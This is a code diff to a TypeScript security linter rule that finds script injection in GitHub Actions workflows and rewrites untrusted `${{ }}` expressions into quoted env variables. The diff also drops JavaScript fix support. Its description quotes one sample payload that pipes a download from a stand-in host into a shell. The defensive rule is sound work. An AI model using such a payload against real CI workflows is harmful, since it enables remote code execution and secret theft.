@@ -4,13 +4,11 @@ import { expressionSpans } from '../../workflow/expressions.ts'
 import { expressionTokens } from '../../workflow/file-expressions.ts'
 import { childOf, entriesOf, type Place } from '../../workflow/nodes.ts'
 import type { Operation } from '../../workflow/operations.ts'
-import { type Edit, singleQuoted } from '../../workflow/spans.ts'
+import { singleQuoted } from '../../workflow/spans.ts'
 import { pairKey, pairsOf } from '../../workflow/yaml.ts'
 import type { JobFlow, StepFlow } from '../flow/data-flow.ts'
-import { safeInJavaScript } from '../flow/safe-javascript.ts'
 import { safeInShell } from '../flow/safe-shell.ts'
-import { type Placeholder, type PlaceholderScript, scriptOf } from '../flow/script.ts'
-import { isGoverning } from '../flow/sink-names.ts'
+import { scriptOf } from '../flow/script.ts'
 import type { Rule, RuleFile } from '../rule.ts'
 import type { UntrustedFinding } from '../untrusted.ts'
 import { greet } from './example-workflows.ts'
@@ -24,8 +22,10 @@ export const scriptInjection: Rule = {
       'GitHub replaces `${{ }}` in a script before the shell reads it, so the sender of an event can write a part of the script: `"; curl evil.example | sh; "`. The same happens to a variable in a second interpreter (`ssh host "deploy $NAME"`, `sh -c`, `xargs`, `psql -c`, `eval`, `os.system`), to a program from standard input, and to a line in `$GITHUB_ENV` or `$GITHUB_PATH`.',
     remedy:
       'Set a variable under `env:`, and use it in quotes. Pass it to another program as an argument (`bash -c \'…"$1"\' _ "$NAME"`) or as data. Values that a condition compares with fixed strings, or that a shell script checks with an anchored regular expression, are not reported. `--fix` sets the variable if the script then certainly does the same.',
-    before: '- run: echo "${{ fromJSON(needs.on.outputs.body).hello }}"',
-    after: '- env:\n    NAME: ${{ fromJSON(needs.on.outputs.body).hello }}\n  run: echo "$NAME"',
+    before: `- run: echo "\${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}"`,
+    after: `- env:
+    NAME: \${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}
+  run: echo "$NAME"`,
     workflow: greet,
   },
   check: (file) =>
@@ -48,49 +48,23 @@ function fixScripts(file: RuleFile): Operation[] {
 /** @param findings all findings of one script */
 function fixScript(findings: readonly UntrustedFinding[]): Operation[] {
   const [first] = findings
-  if (!first?.step || !first.job) return []
+  if (first?.key !== 'run' || first.step?.shell !== 'posix') return []
   const { text, step, job } = first
   const { value } = text.node
   const script = scriptOf(value, expressionSpans(value))
   const names = new VariableNames(job, step, script.text)
   const found = new Set(findings.map(({ at }) => at.start - '${{'.length))
-  const edits = replacements(first, script).flatMap((replace, at) => {
+  const edits = safeInShell(script).flatMap((replace, at) => {
     const placeholder = script.placeholders[at]
-    const isFound = placeholder && found.has(placeholder.braces.start)
-    return replace && isFound ? replace(placeholder, names) : []
+    if (!replace || !placeholder || !found.has(placeholder.braces.start)) return []
+    const { braces, expression } = placeholder
+    return [{ ...braces, text: replace(names.of(expression.trim())) }]
   })
   if (edits.length === 0) return []
   const { variables } = names
   const env = variables.length > 0 ? envOperation(step.place, variables) : undefined
   if (variables.length > 0 && !env) return []
-  // Two expressions in one string share its quotes.
-  const once = new Map(edits.map((edit) => [edit.start, edit]))
-  return [{ op: 'rewriteText', path: text.path, edits: [...once.values()] }, ...(env ? [env] : [])]
-}
-
-/** The edits that replace one expression by a variable. */
-type Replace = (placeholder: Placeholder, names: VariableNames) => readonly Edit[]
-
-function replacements(
-  { key, step }: UntrustedFinding,
-  script: PlaceholderScript,
-): (Replace | undefined)[] {
-  if (key === 'run' && step?.shell === 'posix') {
-    return safeInShell(script).map(
-      (text) =>
-        text &&
-        (({ braces, expression }, names) => [
-          { ...braces, text: text(names.of(expression.trim())) },
-        ]),
-    )
-  }
-  if (key !== 'script' || !/^actions\/github-script@/i.test(step?.uses ?? '')) return []
-  return safeInJavaScript(script).map((safe, at) => {
-    const expression = script.placeholders[at]?.expression.trim() ?? ''
-    // Only toJSON tells that the variable contains JSON.
-    if (!safe || (safe.isJson && !/^toJSON\([^()]*\)$/i.test(expression))) return undefined
-    return (_, names) => safe.edits(names.of(expression))
-  })
+  return [{ op: 'rewriteText', path: text.path, edits }, ...(env ? [env] : [])]
 }
 
 /** A variable that the step gets. */
@@ -145,9 +119,8 @@ class VariableNames {
   }
 
   #free(name: string): string {
-    const own = isGoverning(name) ? `EVENT_${name}` : name
     for (let count = 1; ; count++) {
-      const candidate = count === 1 ? own : `${own}_${count}`
+      const candidate = count === 1 ? name : `${name}_${count}`
       if (!this.#taken.has(candidate)) return candidate
     }
   }
@@ -160,9 +133,10 @@ function wordsOf(expression: string): string[] {
     .filter((word) => word !== '' && !GENERIC.has(word.toLowerCase()))
     .slice(0, 4)
     .map((word) => word.toUpperCase())
-  if (words.length > 1) return /^\d/.test(words[0] ?? '') ? ['', ...words] : words
-  // One word alone could be PATH.
-  return words.length === 1 ? ['EVENT', ...words] : ['UNTRUSTED', 'INPUT']
+  // Without a first word of its own, the name could be PATH or GIT_DIR.
+  return words[0] === 'WEBHOOK' || words[0] === 'NEEDS' || words[0] === 'STEPS'
+    ? words
+    : ['EVENT', ...words]
 }
 
 /**
